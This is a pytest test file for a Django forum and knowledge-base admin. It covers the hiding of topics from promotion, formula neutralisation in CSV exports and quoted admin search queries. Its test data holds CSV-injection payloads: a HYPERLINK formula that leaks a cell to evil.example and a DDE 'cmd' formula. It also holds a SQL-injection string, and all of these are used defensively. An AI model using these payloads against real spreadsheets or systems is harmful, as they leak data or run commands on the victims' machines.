"""Admin findings of the security review: hidden topics cannot be promoted (finding 13), CSV
exports neutralise formulas (finding 14), and the admin page search takes quoted queries
(finding 12)."""

import csv
import io

from django.urls import reverse

import pytest

from core.spreadsheets import neutralise_formula
from forum.models import Topic
from forum.services import moderation
from kb.models import FaqArticlePage, HelpfulVote
from search.models import SearchLogEntry
from tests.factories import moderator_user, staff_user
from tests.kb.conftest import make_answered_topic

pytestmark = pytest.mark.django_db


# --- promoting a hidden topic ------------------------------------------------------------


@pytest.fixture
def hidden_answered_topic():
    topic = make_answered_topic(title="Secret internal pricing discussion")
    moderation.topic_hide(user=moderator_user(username="mo"), topic=topic, reason="Internal")
    topic.refresh_from_db()
    return topic


def test_editor_cannot_open_the_promote_page_of_a_hidden_topic(
    client, editor, section, hidden_answered_topic
):
    client.force_login(editor)
    response = client.get(reverse("kb_admin:promote", args=[hidden_answered_topic.pk]))
    assert response.status_code == 302 and response.url == reverse("kb_admin:candidates")
    assert "Secret internal pricing" not in client.get(response.url).content.decode()


@pytest.mark.parametrize("role", ["editor", "staff"])
def test_nobody_promotes_a_hidden_topic_into_a_draft(client, request, role, section, hidden_answered_topic):
    client.force_login(request.getfixturevalue(role))
    url = reverse("kb_admin:promote", args=[hidden_answered_topic.pk])
    response = client.post(url, {"section": section.pk})
    assert response.status_code == 400
    assert "hidden by a moderator" in response.content.decode()
    assert not FaqArticlePage.objects.exists()
    assert Topic.objects.get(pk=hidden_answered_topic.pk).faq_page_id is None


def test_a_visible_answered_topic_is_still_promoted(client, editor, section):
    topic = make_answered_topic(title="How do refunds work?")
    client.force_login(editor)
    response = client.post(reverse("kb_admin:promote", args=[topic.pk]), {"section": section.pk})
    assert response.status_code == 302
    assert FaqArticlePage.objects.filter(title="How do refunds work?").exists()


# --- CSV exports -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
            '\'=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("refund", "refund"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_search_log_export_neutralises_a_formula_query(client, editor):
    attack = '=hyperlink("http://evil.example/?leak="&a3,"open")'
    for _ in range(3):
        SearchLogEntry.objects.create(query=attack, result_count=0, source="page")
    client.force_login(editor)
    for url in ("/admin/reports/search/content-gaps/", "/admin/reports/search/top/"):
        rows = csv_rows(client.get(url, {"export": "csv"}))
        cells = [row[0] for row in rows[1:]]
        assert "'" + attack in cells, url
        assert attack not in cells


def test_feedback_export_neutralises_a_formula_comment(client, editor, article):
    attack = "=cmd|' /C calc'!A0"
    HelpfulVote.objects.create(article=article, session_key="s" * 32, helpful=False, comment=attack)
    client.force_login(editor)
    rows = csv_rows(client.get(reverse("kb_admin:feedback"), {"export": "csv"}))
    comments = [row[2] for row in rows[1:]]
    assert comments == ["'" + attack]


# --- the admin page search ---------------------------------------------------------------


@pytest.mark.parametrize("query", ['"unbalanced', "' OR 1=1 --", '"how do" pay', '""'])
def test_admin_page_search_takes_quoted_queries(client, article, query):
    admin = staff_user(username="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get("/admin/pages/search/", {"q": query})
    assert response.status_code == 200


def test_admin_page_search_finds_a_phrase(client, article):
    client.force_login(staff_user(username="root", is_superuser=True, is_staff=True))
    response = client.get("/admin/pages/search/", {"q": '"How do I"'})
    assert response.status_code == 200
    assert article.title in response.content.decode()
